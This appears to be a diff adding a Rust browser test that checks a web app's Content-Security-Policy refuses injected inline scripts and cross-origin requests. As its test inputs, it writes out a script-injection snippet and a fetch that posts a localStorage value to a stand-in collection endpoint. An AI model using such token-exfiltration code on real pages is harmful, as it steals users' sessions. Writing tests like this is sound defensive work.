@@ -51,6 +51,44 @@ async fn a_logout_in_one_tab_logs_the_other_out() {
     h.finish().await;
 }
 
+/// The page's Content-Security-Policy: the app runs under it, and it refuses what an injected
+/// script would need to steal the tokens from localStorage: running inline code, and sending
+/// them to another origin.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_content_security_policy_refuses_inline_scripts_and_other_origins() {
+    let h = Harness::start().await;
+    h.log_in_from_home().await;
+    let violation = |attempt: &str| {
+        format!(
+            "return new Promise(resolve => {{
+                document.addEventListener('securitypolicyviolation',
+                    event => resolve(event.effectiveDirective), {{ once: true }});
+                setTimeout(() => resolve('allowed'), 2000);
+                {attempt}
+            }});"
+        )
+    };
+    let inline = h
+        .browser
+        .execute(
+            &violation(
+                "const s = document.createElement('script'); s.textContent = 'window.stolen = 1'; document.head.append(s);",
+            ),
+            vec![],
+        )
+        .await;
+    assert_eq!(inline, json!("script-src-elem"));
+    let elsewhere = h
+        .browser
+        .execute(
+            &violation("fetch('http://127.0.0.1:9/collect', { method: 'POST', body: localStorage.getItem('x') }).catch(() => {});"),
+            vec![],
+        )
+        .await;
+    assert_eq!(elsewhere, json!("connect-src"));
+    h.finish().await;
+}
+
 /// The backend goes away while a refresh is due and comes back on the same port: the session is
 /// kept, the page says it is reconnecting, and it recovers by itself.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
